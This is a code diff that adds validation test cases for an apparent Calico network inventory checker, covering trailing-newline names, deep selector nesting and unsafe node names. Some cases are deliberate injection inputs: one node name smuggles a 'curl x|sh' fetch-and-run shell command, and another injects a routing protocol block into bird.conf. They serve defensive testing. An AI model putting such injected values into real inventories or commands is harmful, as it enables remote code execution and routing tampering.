@@ -85,6 +85,18 @@ CASES = [
     ("unknown-pool", lambda p: wl(p, pool="nope"), "n1", "calico_workloads[0].pool", "nope"),
     ("bad-workload-name", lambda p: wl(p, name="Web_1"), "n1", "calico_workloads[0].name", "Web_1"),
     ("bad-namespace", lambda p: wl(p, namespace="Blue NS"), "n1", "calico_workloads[0].namespace", "Blue NS"),
+    # full matches ('$' of re.match accepts a trailing newline): web and web\n would collide, blue\n leak
+    ("workload-name-trailing-newline", lambda p: wl(p, name="w1\n"), "n1", "calico_workloads[0].name", "w1\\n"),
+    ("namespace-trailing-newline", lambda p: wl(p, namespace="blue\n"), "n1", "calico_workloads[0].namespace", "blue\\n"),
+    ("pool-name-trailing-newline", lambda p: pool(p, name="p1\n"), "calico_nodes", "calico_pools[0].name", "p1\\n"),
+    # node names are Calico Node names (DNS-1123 subdomains): they reach bird.conf, etcd keys and commands
+    ("node-name-bird-protocol", lambda p: p["nodes"][1].update(name="n2\n protocol static evil { ipv4; }"),
+     "calico_nodes", "inventory_hostname", "protocol static evil"),
+    ("node-name-shell", lambda p: p["nodes"][1].update(name="n2;curl x|sh;#"), "calico_nodes", "inventory_hostname",
+     "n2;curl x|sh;#"),
+    ("node-name-etcd-key", lambda p: p["nodes"][1].update(name="rack1/n2"), "calico_nodes", "inventory_hostname", "rack1/n2"),
+    ("selector-nested-too-deep", lambda p: pool(p, node_selector="(" * 2000 + "all()" + ")" * 2000), "calico_nodes",
+     "calico_pools[0] (p1).node_selector", "nested more than 64 deep"),
     ("unknown-workload-key", lambda p: wl(p, adress="10.10.0.1"), "n1", "calico_workloads[0]", "adress"),
     ("workloads-not-a-list", lambda p: p["nodes"][0].update(workloads="w1,w2"), "n1", "calico_workloads", "w1,w2"),
     ("node-ip-without-prefix", lambda p: p["nodes"][0].update(ip="192.168.1.1"), "n1", "calico_node_ip", "192.168.1.1"),
